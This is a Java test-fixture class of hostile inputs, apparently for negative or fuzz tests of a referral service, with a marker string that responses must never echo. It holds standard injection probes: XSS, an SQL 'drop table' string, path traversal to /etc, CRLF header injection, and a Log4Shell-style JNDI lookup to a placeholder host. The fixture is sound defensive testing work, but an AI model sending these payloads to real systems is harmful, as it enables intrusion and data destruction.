package nl.houvast;

import java.util.List;
import java.util.Map;

/** What people and programs send that nobody asked for. */
final class Hostile {

    /** Stands in every hostile text: an answer must never repeat it. */
    static final String MARK = "zwartepad";

    /** Texts by what is wrong with them. */
    static final Map<String, String> TEXTS =
            Map.of(
                    "long", MARK + "x".repeat(60_000),
                    "emoji", MARK + " \uD83D\uDE00\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
                    "right to left", MARK + " \u202Eneila\u202C \u0645\u0631\u062D\u0628\u0627",
                    "control characters", MARK + "\u0000\u0007\u001B[31m\r\nSet-Cookie: a=b",
                    "half a character", MARK + "\uD83D",
                    "HTML", MARK + "\"'><script>alert(1)</script><img src=x onerror=alert(1)>",
                    "SQL", MARK + "'; drop table referral.referral; --",
                    "path", "../../../../etc/" + MARK + "%2e%2e%2f",
                    "expression", "${jndi:ldap://" + MARK + ".test/a}#{7*7}{{7*7}}");

    /** Values of other kinds than were asked for, as JSON. */
    static final List<String> VALUES =
            List.of(
                    "null",
                    "true",
                    "0",
                    "-1",
                    "121",
                    "1e400",
                    "99999999999999999999999999",
                    "3.5",
                    "\"\"",
                    "\"   \"",
                    "[]",
                    "{}",
                    "[[[\"zwartepad\"]]]",
                    "{\"zwartepad\":{\"zwartepad\":1}}",
                    "[null]",
                    "[\"MO\",\"MO\"]");

    private Hostile() {}
}
